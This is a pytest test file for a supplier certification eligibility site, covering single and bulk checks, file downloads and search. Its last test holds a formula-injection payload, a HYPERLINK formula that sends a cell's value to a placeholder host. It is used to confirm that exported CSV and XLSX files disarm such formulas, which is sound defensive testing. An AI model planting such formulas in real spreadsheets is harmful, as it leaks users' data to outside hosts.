"""The public eligibility pages: one check, a bulk check of a file, its downloads, the search."""

import codecs
import csv
import io
import re
from dataclasses import dataclass
from datetime import date, timedelta

import pytest
from openpyxl import Workbook, load_workbook
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from accounts.models import User
from tests import factories
from tests.conftest import csrf_token
from tests.spreadsheet_check import csv_rows, live_csv_formulas, live_xlsx_formulas
from tests.statements import counting_statements

TODAY = date.today()


@dataclass
class World:
    """Suppliers in every situation, by name: their credit codes and certificate numbers."""

    codes: dict[str, str]
    numbers: dict[str, str]


def make_world(session) -> World:
    """Create one manufacturer per situation, each with at most one cement certificate."""
    body, reviewer = factories.make_body(session)
    codes, numbers = {}, {}

    def supplier(key: str, name_zh: str, name_en: str | None = None) -> User:
        org = factories.make_organisation(session, name_zh=name_zh, name_en=name_en)
        codes[key] = org.credit_code
        return factories.make_user(session, org)

    def certified(key, name_zh, *, stars=2, status=None, valid_until=None, name_en=None):
        maker = supplier(key, name_zh, name_en)
        certificate = factories.issue_test_certificate(
            session, body=body, reviewer=reviewer, maker=maker
        )
        certificate.stars = stars
        factories.set_dates(session, certificate, valid_until=valid_until, status=status)
        numbers[key] = certificate.number

    certified("two_stars", "贵阳绿建水泥有限公司", name_en="Guiyang Green Cement Co.")
    certified("suspended", "安顺暂停水泥有限公司", status="suspended")
    certified("revoked", "遵义撤销水泥有限公司", status="revoked")
    certified("ends_today", "惠水今日到期水泥有限公司", valid_until=TODAY)
    certified("ended_yesterday", "毕节昨日到期水泥有限公司", valid_until=TODAY - timedelta(days=1))
    supplier("no_certificate", "铜仁无证建材有限公司")
    session.commit()
    codes["unknown"] = factories.credit_code()
    return World(codes, numbers)


@pytest.fixture
def world(session) -> World:
    """Return the suppliers of every situation."""
    return make_world(session)


def page(response) -> str:
    """Return the page's text."""
    return response.get_data(as_text=True)


def errors(html: str) -> list[str]:
    """Return the field error messages on a page."""
    return re.findall(r'<p class="error">(.*?)</p>', html)


# --- the single check -------------------------------------------------------------------------


def check(client, supplier: str, category: str = "cement", min_stars: str = "1"):
    """Ask the page about a supplier."""
    return client.get(
        "/eligibility",
        query_string={"supplier": supplier, "category": category, "min_stars": min_stars},
    )


def verdict(html: str) -> tuple[str, str]:
    """Return the page's verdict: (yes or no, reason code)."""
    match = re.search(r'data-eligible="(yes|no)" data-reason="(\w*)"', html)
    return match.groups()


def test_form_without_a_question(client, world):
    response = client.get("/eligibility")
    html = page(response)
    assert response.status_code == 200
    assert "eligibility-verdict" not in html and not errors(html)
    assert 'id="category" name="category"><option value="">Choose a category' in html
    # The suggestion list offers the names of manufacturers that hold certificates.
    code = world.codes["two_stars"]
    assert (
        f'<option value="贵阳绿建水泥有限公司 ({code})">Guiyang Green Cement Co.</option>' in html
    )
    assert world.codes["no_certificate"] not in html


def test_eligible_supplier(client, world):
    response = check(client, world.codes["two_stars"], min_stars="2")
    html = page(response)
    assert response.status_code == 200
    assert verdict(html) == ("yes", "")
    assert "Holds 1 valid certificate in Cement with at least 2 stars." in html
    number = world.numbers["two_stars"]
    assert f'<a href="/verify/{number}">{number}</a>' in html
    assert 'data-status="valid"' in html and "meets the request" in html


def test_certificate_that_ends_today_is_still_valid(client, world):
    html = page(check(client, world.codes["ends_today"]))
    assert verdict(html) == ("yes", "")
    assert f'{TODAY.isoformat()}</span><div class="small expiring">ends today' in html


REASONS = {
    "stars below": ("two_stars", "cement", "3", "stars_below", "have at most 2 stars; at least 3"),
    "suspended": ("suspended", "cement", "1", "not_valid", "is valid today (Suspended 1)"),
    "revoked": ("revoked", "cement", "1", "not_valid", "is valid today (Revoked 1)"),
    "expired yesterday": ("ended_yesterday", "cement", "1", "not_valid", "(Expired 1)"),
    "wrong category": ("two_stars", "flat-glass", "1", "no_certificate", "certificate in Flat"),
    "no certificate": ("no_certificate", "cement", "1", "no_certificate", "Holds no green"),
    "unknown supplier": ("unknown", "cement", "1", "unknown_supplier", "No manufacturer with"),
}


@pytest.mark.parametrize(
    ("key", "category", "stars", "reason", "text"), REASONS.values(), ids=REASONS.keys()
)
def test_not_eligible_says_why(client, world, key, category, stars, reason, text):
    response = check(client, world.codes[key], category, stars)
    html = page(response)
    assert response.status_code == 200
    assert verdict(html) == ("no", reason)
    assert text in html
    if key in world.numbers and category == "cement":
        assert f"/verify/{world.numbers[key]}" in html


def test_category_by_chinese_name_and_code_with_spaces(client, world):
    code = world.codes["two_stars"]
    html = page(check(client, f"{code[:9]} {code[9:]}", "水泥"))
    assert verdict(html) == ("yes", "")
    assert f'value="{code}"' in html  # the form shows the normalised code
    assert '<option selected value="cement">' in html


@pytest.mark.parametrize(
    "text", ["Guiyang Green Cement Co.", "贵阳绿建水泥有限公司", "贵阳绿建水泥有限公司 (CODE)"]
)
def test_supplier_by_name_or_suggestion(client, world, text):
    code = world.codes["two_stars"]
    html = page(check(client, text.replace("CODE", code)))
    assert verdict(html) == ("yes", "")
    assert f'name="supplier" type="text" value="{code}"' in html


@pytest.mark.parametrize(
    ("supplier", "message"),
    [
        ("9152010000000", "A credit code has 18 characters; this one has 13."),
        ("915201000000000051", "The check character (the 18th) does not match."),
        ("", "Enter the supplier&#39;s credit code."),
        ("某某建材公司", "No supplier has the credit code or name “某某建材公司”."),
    ],
)
def test_bad_credit_code_is_explained(client, world, supplier, message):
    response = check(client, supplier)
    html = page(response)
    assert response.status_code == 400
    assert "eligibility-verdict" not in html
    assert any(e.startswith(message) for e in errors(html)), errors(html)


def test_bad_category_and_stars(client, world):
    response = check(client, world.codes["two_stars"], "steel", "4")
    assert response.status_code == 400
    assert errors(page(response)) == [
        "No category has the code or name “steel”.",
        "The minimum star level must be 1, 2 or 3, not “4”.",
    ]


def test_supplier_search(client, world):
    html = page(client.get("/eligibility/suppliers?q=guiyang"))
    assert "1 supplier found." in html
    code = world.codes["two_stars"]
    assert f'<td class="mono">{code}</td>' in html
    assert f'href="/eligibility?supplier={code}"' in html
    html = page(client.get("/eligibility/suppliers?q=水泥有限公司"))
    assert "5 suppliers found." in html
    assert "0 suppliers found." in page(client.get("/eligibility/suppliers?q=100%"))


def test_supplier_link_fills_in_the_form(client, world):
    code = world.codes["two_stars"]
    response = client.get(f"/eligibility?supplier={code}")
    html = page(response)
    assert response.status_code == 200 and f'value="{code}"' in html
    assert "eligibility-verdict" not in html and not errors(html)


# --- the bulk check ---------------------------------------------------------------------------


def upload(client, content: bytes, filename: str = "suppliers.csv", **fields):
    """Post a file to the bulk check (encoded in memory: no temporary file left open)."""
    values = {"file": FileStorage(io.BytesIO(content), filename=filename), **fields}
    boundary, body = encode_multipart(values)
    return client.post(
        "/eligibility/bulk", data=body, content_type=f"multipart/form-data; boundary={boundary}"
    )


def results(html: str) -> dict[int, str]:
    """Return the result of each row in the page's table, by row number."""
    found = re.findall(r'data-row="(\d+)"\s+data-result="(\w+)"', html)
    return {int(row): result for row, result in found}


def row_text(html: str, row: int) -> str:
    """Return the text of one row of the result table."""
    start = html.index(f'data-row="{row}"')
    return re.sub(r"<[^>]+>|\s+", " ", html[start : html.index("</tr>", start)])


def token_of(html: str) -> str:
    """Return the token of the result on the page."""
    return re.search(r"/eligibility/bulk/([\w-]{24})/results\.csv", html).group(1)


def csv_file(world: World) -> str:
    """Return a CSV with good rows and malformed ones."""
    c = world.codes
    return "\n".join(
        [
            "统一社会信用代码,类别,最低星级",
            f"{c['two_stars']},水泥,2",  # 2: eligible
            f"{c['suspended']},cement,",  # 3: not valid
            "91520100ABC,cement,1",  # 4: bad code
            f"{c['two_stars']},steel,1",  # 5: unknown category
            f"{c['two_stars']},cement,4",  # 6: four stars
            "",  # 7: empty line
            f"{c['unknown']},Cement,1",  # 8: unknown supplier
            f"{c['two_stars']},Flat glass,1",  # 9: no certificate in the category
            f"{c['ends_today']},cement,1",  # 10: ends today
            "",  # the file ends with a line break
        ]
    )


def test_bulk_form(client):
    html = page(client.get("/eligibility/bulk"))
    assert 'enctype="multipart/form-data"' in html and 'name="file"' in html


def test_bulk_csv_reports_every_row(client, world):
    response = upload(client, csv_file(world).encode())
    html = page(response)
    assert response.status_code == 200
    assert results(html) == {
        2: "eligible",
        3: "not_eligible",
        4: "malformed",
        5: "malformed",
        6: "malformed",
        7: "malformed",
        8: "not_eligible",
        9: "not_eligible",
        10: "eligible",
    }
    assert "A credit code has 18 characters; this one has 11." in row_text(html, 4)
    assert "No category has the code or name “steel”." in row_text(html, 5)
    assert "must be 1, 2 or 3, not “4”" in row_text(html, 6)
    assert "The row is empty." in row_text(html, 7)
    assert "No manufacturer with this credit code" in row_text(html, 8)
    assert 'data-testid="count-eligible">2<' in html
    assert 'data-testid="count-malformed">4<' in html
    assert "Checked all 9 rows: 2 eligible, 3 not eligible, 4 malformed." in html


def test_bulk_gb18030_file_from_excel(client, world):
    text = f"信用代码,类别,最低星级\r\n{world.codes['two_stars']},水泥,二星级\r\n"
    html = page(upload(client, text.encode("gb18030")))
    assert results(html) == {2: "eligible"}
    assert "Guiyang Green Cement Co." in row_text(html, 2)  # the name in the page's language


def test_bulk_xlsx(client, world):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Supplier", "Credit code", "Category", "Minimum stars"])
    sheet.append(["贵阳绿建", world.codes["two_stars"], "Cement", 2])
    sheet.append(["安顺", world.codes["suspended"], "水泥", None])
    sheet.append(["x", 915201000000000000, "cement", 1])
    buffer = io.BytesIO()
    workbook.save(buffer)
    html = page(upload(client, buffer.getvalue(), "suppliers.xlsx"))
    assert results(html) == {2: "eligible", 3: "not_eligible", 4: "malformed"}
    assert "format the column as text" in row_text(html, 4)


def test_more_than_ten_thousand_rows_are_refused(client, world):
    content = "信用代码,类别\n" + f"{world.codes['two_stars']},cement\n" * 10_001
    response = upload(client, content.encode())
    assert response.status_code == 400
    assert errors(page(response)) == [
        "The file has more than 10,000 rows: split it into files of at most 10,000 rows."
    ]


def test_ten_thousand_rows_are_accepted(client, world):
    content = "信用代码,类别\n" + f"{world.codes['two_stars']},cement\n" * 10_000
    html = page(upload(client, content.encode()))
    assert "Checked all 10,000 rows: 10,000 eligible, 0 not eligible, 0 malformed." in html
    assert "Page 1 of 100" in html


@pytest.mark.parametrize(
    ("content", "filename", "message"),
    [
        (None, None, "Choose a CSV or XLSX file."),
        (b"", "empty.csv", "The file is empty."),
        (b"\xd0\xcf\x11\xe0" + b"\0" * 64, "old.xls", "Old Excel files (.xls) cannot be read"),
    ],
)
def test_unreadable_upload(client, content, filename, message):
    if content is None:
        response = client.post("/eligibility/bulk", data={})
    else:
        response = upload(client, content, filename)
    assert response.status_code == 400
    assert errors(page(response))[0].startswith(message)


def test_downloads(client, world):
    html = page(upload(client, csv_file(world).encode()))
    token = token_of(html)

    response = client.get(f"/eligibility/bulk/{token}/results.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.data.startswith(codecs.BOM_UTF8)
    from_csv = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))

    response = client.get(f"/eligibility/bulk/{token}/results.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    from_xlsx = [
        ["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)
    ]

    assert from_csv == from_xlsx
    header, *rows = from_csv
    assert header == [
        "Row",
        "Credit code",
        "Category",
        "Minimum stars",
        "Supplier",
        "Result",
        "Reason",
        "Certificates",
    ]
    assert [(r[0], r[5]) for r in rows] == [
        ("2", "Eligible"),
        ("3", "Not eligible"),
        ("4", "Malformed row"),
        ("5", "Malformed row"),
        ("6", "Malformed row"),
        ("7", "Malformed row"),
        ("8", "Not eligible"),
        ("9", "Not eligible"),
        ("10", "Eligible"),
    ]
    first = rows[0]
    assert first[1:5] == [world.codes["two_stars"], "Cement", "2", "Guiyang Green Cement Co."]
    assert first[7].startswith(world.numbers["two_stars"] + " (2 stars, Valid, ")
    assert rows[2][1:4] == ["91520100ABC", "cement", "1"]
    assert rows[2][6] == "A credit code has 18 characters; this one has 11."


def test_downloaded_csv_can_be_checked_again(client, world):
    first = page(upload(client, csv_file(world).encode()))
    data = client.get(f"/eligibility/bulk/{token_of(first)}/results.csv").data
    again = results(page(upload(client, data)))
    # The header is recognised; the rows keep their answers (numbered one further down).
    assert again[2] == "eligible" and again[3] == "not_eligible" and again[4] == "malformed"


def test_result_pages_and_filters(client, world):
    c = world.codes
    lines = ["信用代码,类别"] + [
        f"{c['two_stars']},cement" if n % 50 else "bad,cement" for n in range(1, 251)
    ]
    token = token_of(page(upload(client, "\n".join(lines).encode())))
    html = page(client.get(f"/eligibility/bulk/{token}?page=2"))
    assert sorted(results(html)) == list(range(102, 202))
    assert "Page 2 of 3" in html
    html = page(client.get(f"/eligibility/bulk/{token}?show=malformed"))
    assert sorted(results(html)) == [51, 101, 151, 201, 251]
    assert client.get("/eligibility/bulk/" + "x" * 24).status_code == 404
    assert client.get("/eligibility/bulk/nonsense/results.csv").status_code == 404


def test_query_count_does_not_grow_with_the_rows(app, client, world):
    c = world.codes
    known = [c[k] for k in ("two_stars", "suspended", "revoked", "no_certificate")]
    small = "\n".join(["信用代码,类别", f"{known[0]},cement", f"{c['unknown']},lime"])
    large = ["信用代码,类别,最低星级"]
    for n in range(2_500):
        code = known[n % 4] if n % 3 else factories.credit_code()
        large.append(f"{code},{('cement', '石灰', 'flat-glass')[n % 3]},{n % 3 + 1}")

    with counting_statements(app) as few:
        small_page = page(upload(client, small.encode()))
    with counting_statements(app) as many:
        large_page = page(upload(client, "\n".join(large).encode()))

    assert "Checked all 2 rows" in small_page and "Checked all 2,500 rows" in large_page
    assert len(many) == len(few) <= 4, many
    # Progress is streamed every 1,000 rows.
    assert "Checked 1,000 of 2,500 rows…" in large_page
    assert "Checked 2,000 of 2,500 rows…" in large_page


def test_progress_is_sent_before_the_result(client, world):
    content = "信用代码,类别\n" + f"{world.codes['two_stars']},cement\n" * 2_100
    values = {"file": FileStorage(io.BytesIO(content.encode()), filename="suppliers.csv")}
    boundary, body = encode_multipart(values)
    response = client.post(
        "/eligibility/bulk",
        data=body,
        content_type=f"multipart/form-data; boundary={boundary}",
        buffered=False,
    )
    chunks = [chunk.decode() for chunk in response.response]
    response.close()

    def first(text: str) -> int:
        return next(i for i, chunk in enumerate(chunks) if text in chunk)

    assert first("bulk-progress") < first("Rows read") < first("Checked 1,000 of 2,100")
    assert first("Checked 2,000 of 2,100") < first("Checked all 2,100") < first("bulk-summary")


@pytest.mark.csrf
def test_bulk_upload_needs_the_form_token(client, world):
    content = f"{world.codes['two_stars']},cement\n".encode()
    assert upload(client, content).status_code == 400
    token = csrf_token(client, "/eligibility/bulk")
    response = upload(client, content, csrf_token=token)
    assert response.status_code == 200 and results(page(response)) == {1: "eligible"}


def test_template_file(client):
    response = client.get("/eligibility/bulk/template.csv")
    assert response.data == codecs.BOM_UTF8 + "统一社会信用代码,类别,最低星级\r\n".encode()


def test_pages_are_public_and_need_no_sign_in(client, world):
    for url in ("/eligibility", "/eligibility/bulk", "/eligibility/suppliers?q=x"):
        assert client.get(url).status_code == 200


def test_urls_and_endpoint_names_of_the_pages(app):
    rules = {
        rule.endpoint: rule.rule
        for rule in app.url_map.iter_rules()
        if rule.endpoint.startswith("eligibility.")
    }
    assert rules == {
        "eligibility.check": "/eligibility",
        "eligibility.suppliers": "/eligibility/suppliers",
        "eligibility.bulk": "/eligibility/bulk",
        "eligibility.bulk_run": "/eligibility/bulk",
        "eligibility.bulk_result": "/eligibility/bulk/<token>",
        "eligibility.bulk_csv": "/eligibility/bulk/<token>/results.csv",
        "eligibility.bulk_xlsx": "/eligibility/bulk/<token>/results.xlsx",
        "eligibility.bulk_template": "/eligibility/bulk/template.csv",
    }


FORMULA_NAME = '=HYPERLINK("http://x?d="&A1,"水泥")'


def test_downloads_run_no_formula(client, world):
    content = "\n".join(
        [
            "统一社会信用代码,类别,最低星级",
            '"' + FORMULA_NAME.replace('"', '""') + '",cement,1',  # 2: bad code, echoed
            f"{world.codes['two_stars']},=1+2,-2+3",  # 3: unknown category, bad stars
            f"{world.codes['two_stars']},@SUM(A1),-2",  # 4: unknown category, stars below 1
        ]
    ).encode()
    token = token_of(page(upload(client, content)))

    data = client.get(f"/eligibility/bulk/{token}/results.csv").data
    assert live_csv_formulas(data) == []
    rows = csv_rows(data)
    assert [row[1:4] for row in rows[1:]] == [
        ["'" + FORMULA_NAME, "cement", "1"],
        [world.codes["two_stars"], "'=1+2", "'-2+3"],
        [world.codes["two_stars"], "'@SUM(A1)", "-2"],  # a number stays a number
    ]

    data = client.get(f"/eligibility/bulk/{token}/results.xlsx").data
    assert live_xlsx_formulas(data) == []
    sheet = load_workbook(io.BytesIO(data)).active
    assert [[cell.value for cell in row[1:4]] for row in sheet.iter_rows(min_row=2)] == [
        [FORMULA_NAME, "cement", "1"],
        [world.codes["two_stars"], "=1+2", "-2+3"],
        [world.codes["two_stars"], "@SUM(A1)", "-2"],
    ]
